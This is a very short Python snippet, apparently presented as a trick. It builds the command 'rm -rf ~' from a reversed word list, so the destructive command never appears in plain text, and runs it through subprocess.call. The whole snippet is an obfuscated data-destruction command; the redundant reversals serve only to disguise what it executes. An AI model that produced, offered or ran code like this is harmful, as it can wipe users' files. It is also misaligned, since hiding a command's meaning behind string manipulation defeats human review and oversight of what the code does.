# tricky: words the wrong way round
import subprocess as s
w = "~ -rf rm".split()
w.reverse()
s.call(w[::-1][::-1])
